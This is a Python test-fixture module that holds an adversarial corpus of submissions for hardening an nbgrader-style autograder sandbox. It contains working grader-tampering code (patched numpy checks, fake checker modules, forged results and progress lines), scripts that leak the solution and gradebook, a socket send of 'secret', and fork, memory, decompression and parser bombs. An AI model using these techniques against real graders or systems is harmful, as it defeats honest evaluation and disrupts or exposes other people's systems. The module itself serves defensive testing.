"""The adversarial corpus: hostile submissions, graded through the real CLI by the tests.

``ATTACKS`` are code attacks, ``name -> (function, source)``: the source replaces that
function's solution cell. Each keeps the function wrong (or missing), so a fair grader
gives it 0 points. Built on the untouched release, an attack must score no more than the
release (0); built on the full solution, the attacks that leave the process alive must
not cost the other functions their points. In a source, ``{course}`` is replaced by the
course folder, ``{port}`` by a port on which the test listens, ``{site}`` by the grading
interpreter's site-packages folder (where PyTorch is) and ``{repo}`` by the folder that
holds the ``autograder`` package.

Several attacks target the trusted side rather than the score: they forge the progress
pipe, or make the sandbox write results (cells.json, result_<i>.json/.npz) or sources that
are hostile to a parser; before the bounded readers and the one-way deadlines, each of
them crashed the grader, stalled it or blew up its memory.

``NOTEBOOK_ATTACKS`` change the notebook's structure; ``FILE_ATTACKS`` are not notebooks at all.
"""
import copy
import json

WRONG_PREDICT = '''def predict(X, w, b):
    return -np.ones(len(X))
'''

ATTACKS = {
    "input_transformer": ("predict", WRONG_PREDICT + '''
ip = get_ipython()
def neuter(lines):
    return [line.replace("check(", "print(") for line in lines]
ip.input_transformers_post.append(neuter)
ip.input_transformers_cleanup.append(neuter)
'''),
    "custom_exception_handler": ("predict", WRONG_PREDICT + '''
get_ipython().set_custom_exc((Exception,), lambda *args, **kwargs: None)
'''),
    "monkeypatch_numpy": ("predict", WRONG_PREDICT + '''
import numpy.testing
np.allclose = lambda *args, **kwargs: True
np.array_equal = lambda *args, **kwargs: True
np.isclose = lambda a, b, *args, **kwargs: np.ones(np.shape(a), dtype=bool)
numpy.testing.assert_allclose = lambda *args, **kwargs: None
numpy.testing.assert_array_equal = lambda *args, **kwargs: None
np.abs = lambda x, *args, **kwargs: np.zeros(np.shape(x))
'''),
    "fake_modules": ("predict", WRONG_PREDICT + '''
import sys, types
fake = types.ModuleType("autograder.student.visible")
fake.check = lambda *args, **kwargs: print("all cases passed")
sys.modules["autograder.student.visible"] = fake
sys.modules["autograder"] = types.ModuleType("autograder")
sys.modules["torch"] = types.ModuleType("torch")
sys.modules["numpy.testing"] = types.ModuleType("numpy.testing")
'''),
    "lying_ndarray": ("predict", '''class Liar(np.ndarray):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __sub__(self, other): return np.zeros(self.shape)
    def __rsub__(self, other): return np.zeros(self.shape)
    def __abs__(self): return np.zeros(self.shape)
    def __array__(self, dtype=None, copy=None): return np.zeros(self.shape)
    def astype(self, *args, **kwargs): return self

def predict(X, w, b):
    return np.zeros(len(X)).view(Liar)
'''),
    "fake_results_file": ("predict", WRONG_PREDICT + '''
import json, os, threading, time
def forge():
    for _ in range(200):
        for name in os.listdir("."):
            if name.startswith("result_") and name.endswith(".json"):
                try:
                    with open(name, "w") as f:
                        json.dump([{"value": {"t": "float", "v": 1.0}}] * 50, f)
                except OSError:
                    pass
        time.sleep(0.005)
threading.Thread(target=forge, daemon=True).start()
'''),
    "exit_at_top_level": ("predict", WRONG_PREDICT + '''
import os
os._exit(0)
'''),
    "sys_exit_in_function": ("predict", '''import sys
def predict(X, w, b):
    sys.exit(0)
'''),
    "flood_stdout": ("predict", '''def predict(X, w, b):
    while True:
        print("x" * 10000)
'''),
    "memory_bomb": ("predict", '''def predict(X, w, b):
    # one allocation far over the address-space limit: fails at once, however busy the machine
    return np.ones((2**20, 2**16))
'''),
    "segfault": ("predict", '''import ctypes
def predict(X, w, b):
    ctypes.string_at(0)
'''),
    "object_array": ("predict", '''def predict(X, w, b):
    return np.array([object()] * len(X))
'''),
    # copies the master's solution (scores if the master is readable) and leaks its text in the
    # cell's error, which the autograded (feedback) notebook shows
    "read_master": ("predict", '''import json
def master_predict():
    cells = json.load(open("{course}/solutions/ps1/ps1.ipynb"))["cells"]
    return next("".join(c["source"]) for c in cells
                if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == "predict")

def predict(X, w, b):
    scope = {"np": np}
    exec(master_predict(), scope)
    return scope["predict"](X, w, b)

raise RuntimeError("LEAKED " + master_predict())
'''),
    # leaks the gradebook's first bytes into the feedback (the error message of every case)
    "read_gradebook": ("predict", '''def predict(X, w, b):
    with open("{course}/gradebook.db", "rb") as f:
        data = f.read(64)
    raise RuntimeError("LEAKED " + data.hex())
'''),
    "write_gradebook": ("predict", WRONG_PREDICT + '''
try:
    with open("{course}/gradebook.db", "r+b") as f:
        f.write(b"corrupted by a student" * 100)
except OSError:
    pass
for name in ["{course}/solutions/ps1/ps1.ipynb", "{course}/nbgrader_config.py"]:
    try:
        open(name, "a").write("tampered")
    except OSError:
        pass
'''),
    "network": ("predict", WRONG_PREDICT + '''
import socket
try:
    socket.create_connection(("127.0.0.1", {port}), timeout=2).sendall(b"secret")
except OSError:
    pass
'''),
    "sleep": ("predict", '''import time
def predict(X, w, b):
    time.sleep(1000)
'''),
    "loop_at_top_level": ("predict", WRONG_PREDICT + '''
while True:
    pass
'''),
    "fork_bomb": ("predict", '''import os
def predict(X, w, b):
    children = 0
    while children < 5000:
        try:
            if os.fork() == 0:
                import time
                time.sleep(60)
                os._exit(0)
            children += 1
        except OSError:
            break
    return -np.ones(len(X))
'''),
    "orphan_daemon": ("predict", WRONG_PREDICT + '''
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(600)
    os._exit(0)
'''),
    "import_torch": ("predict", '''def predict(X, w, b):
    import torch
    return torch.sign(torch.as_tensor(X) @ torch.as_tensor(w) + b).numpy()
'''),
    # the real site-packages (PyTorch) and the grader's own package, imported at the top level of the
    # cell (the sandbox checks imports only while a graded function runs) under names built at run
    # time (the static scan sees constant names only): only the sandbox's view of the files stops it
    "hidden_import": ("predict", '''import sys
sys.path.append("{site}")
sys.path.append("{repo}")
try:
    torch = __import__("to" + "rch")
    reference = __import__("auto" + "grader.problemsets.ps1", fromlist=["x"]).predict_reference
    failure = None
except Exception as error:
    failure = repr(error)

def predict(X, w, b):
    if failure is not None:
        raise RuntimeError("hidden import failed: " + failure)
    return reference(torch.as_tensor(X), torch.as_tensor(w), b).numpy()
'''),
    "system_exit_at_top_level": ("predict", WRONG_PREDICT + '''
raise SystemExit(0)
'''),
    "keyboard_interrupt": ("predict", '''def predict(X, w, b):
    raise KeyboardInterrupt
'''),
    "recursion": ("predict", '''import sys
sys.setrecursionlimit(10**6)
def predict(X, w, b):
    return predict(X, w, b)
'''),
    "huge_return": ("predict", '''def predict(X, w, b):
    return np.zeros((8000, 8000))
'''),
    # forges progress lines: "S 0" restarted predict's clock on every line before the deadlines
    # became one-way (then predict ran for 25 s, with its budget at 6 s); the other lines are
    # starts and ends the runner must refuse while predict runs
    "deadline_forgery": ("predict", '''import json, os, time
def predict(X, w, b):
    with open("job.json") as f:
        fd = json.load(f)["progress_fd"]
    end = time.monotonic() + 25
    while time.monotonic() < end:
        for line in (b"S 0\\n", b"S 00\\n", b"D 1\\nS 0\\n", b"S 6\\nD 6\\n", b"S 0 \\nS -1\\n"):
            try:
                os.write(fd, line)
            except OSError:
                pass
        time.sleep(0.5)
    return -np.ones(len(X))
'''),
    # claims, while predict still runs, that predict is done and the next functions have started: each
    # forged start used to be accepted, stretching the process to its cap and blaming functions that
    # never ran ("timed out" in every one of them) on every fresh process.
    "forge_ahead": ("predict", '''import json, os, time
def predict(X, w, b):
    with open("job.json") as f:
        fd = json.load(f)["progress_fd"]
    end = time.monotonic() + 25
    step = 1
    while time.monotonic() < end:
        for line in (f"D 0\\nS {step}\\n".encode(), f"S {step}\\n".encode()):
            try:
                os.write(fd, line)
            except OSError:
                pass
        step = step % 5 + 1
        time.sleep(0.5)
    return -np.ones(len(X))
'''),
    # the child writes cells.json and result_<i>.json with json.dump: 200 000 nested brackets made
    # json.loads raise RecursionError in the trusted process. Only predict's results and the cells'
    # errors are poisoned, so the other functions must still be graded.
    "deep_cells_json": ("predict", WRONG_PREDICT + '''
import json, os
real_dump = json.dump
def deep_dump(obj, fp, *args, **kwargs):
    if os.path.basename(str(getattr(fp, "name", ""))) in ("cells.json", "result_0.json"):
        fp.write("[" * 200000 + "]" * 200000)
    else:
        real_dump(obj, fp, *args, **kwargs)
json.dump = deep_dump
'''),
    # predict's results saved compressed: a 400 MB array in a file of about 400 kB, which the
    # trusted process used to unpack in full (np.load). Only result_0.npz is compressed.
    "npz_bomb": ("predict", '''import os
real_savez = np.savez
def savez(file, *args, **kwargs):
    if os.path.basename(str(file)) == "result_0.npz":
        return np.savez_compressed(file, *args, **kwargs)
    return real_savez(file, *args, **kwargs)
np.savez = savez
calls = []
def predict(X, w, b):
    calls.append(1)
    if len(calls) == 1:
        return np.zeros((10000, 5000))
    return -np.ones(len(X))
'''),
    # valid Python that the static import scan could not parse: RecursionError and MemoryError
    # ("parser stack overflowed") were raised in the trusted process
    "import_scan_recursion": ("predict", "1+" * 200000 + "1"),
    "import_scan_memory": ("predict", "-" * 100000 + "1"),
}


def _grade_cells(nb):
    return [c for c in nb["cells"] if c.get("metadata", {}).get("nbgrader", {}).get("grade")
            and not c["metadata"]["nbgrader"].get("solution")]


def _delete_tests(nb):
    nb["cells"] = [c for c in nb["cells"] if c not in _grade_cells(nb)]
    return nb


def _blank_tests(nb):
    for c in _grade_cells(nb):
        c["source"] = ""
    return nb


def _inflate_points(nb):
    for c in nb["cells"]:
        meta = c.get("metadata", {}).get("nbgrader")
        if meta:
            meta["points"] = 1000
            meta["grade"] = True
    return nb


def _grade_off(nb):
    for c in _grade_cells(nb):
        c["metadata"]["nbgrader"]["grade"] = False
    return nb


def _tests_to_markdown(nb):
    for c in _grade_cells(nb):
        c["cell_type"] = "markdown"
        c.pop("outputs", None)
        c.pop("execution_count", None)
    return nb


def _bad_kernel(nb):
    nb["metadata"]["kernelspec"] = {"name": "no-such-kernel", "display_name": "nope", "language": "python"}
    return nb


def _fake_outputs(nb):
    for c in _grade_cells(nb):
        c["outputs"] = [{"output_type": "stream", "name": "stdout", "text": "all cases passed"}]
    return nb


def _duplicate_ids(nb):
    """Two cells claim grade_id 'predict': the first is wrong, the second a copy of the stub."""
    cells = nb["cells"]
    index = next(i for i, c in enumerate(cells) if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == "predict")
    clone = copy.deepcopy(cells[index])
    cells[index]["source"] = "def predict(X, w, b):\n    return -np.ones(len(X))\n"
    cells.insert(index + 1, clone)
    return nb


DEEP = "[" * 100000 + "]" * 100000
_DEEP_MARK = "@deeply-nested@"


def _deeply_nested(nb):
    """One metadata value nested 100 000 levels deep (json.loads raised RecursionError on it).
    ``notebook_attack`` writes the brackets in place of the mark: json.dumps cannot."""
    test_cell = next(c for c in nb["cells"]
                     if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == "test_predict")
    test_cell["metadata"]["nbgrader"]["points"] = _DEEP_MARK
    return nb


NOTEBOOK_ATTACKS = {
    "deleted_test_cells": _delete_tests,
    "blanked_test_cells": _blank_tests,
    "inflated_points": _inflate_points,
    "grade_flags_off": _grade_off,
    "test_cells_as_markdown": _tests_to_markdown,
    "missing_kernelspec": _bad_kernel,
    "faked_test_outputs": _fake_outputs,
    "duplicate_grade_ids": _duplicate_ids,
    "deeply_nested_notebook": _deeply_nested,
}

FILE_ATTACKS = {
    "invalid_json": b'{"cells": [',
    "empty_file": b"",
    "binary_garbage": bytes(range(256)) * 64,
    "json_not_a_notebook": b'{"hello": "world"}',
    "oversized": b'{"cells": [], "padding": "' + b"x" * (21 * 2**20) + b'"}',
}


def notebook_attack(release_nb, name):
    """The release with one structural attack applied, as bytes."""
    nb = json.loads(json.dumps(release_nb))
    return json.dumps(NOTEBOOK_ATTACKS[name](nb)).replace(json.dumps(_DEEP_MARK), DEEP).encode()
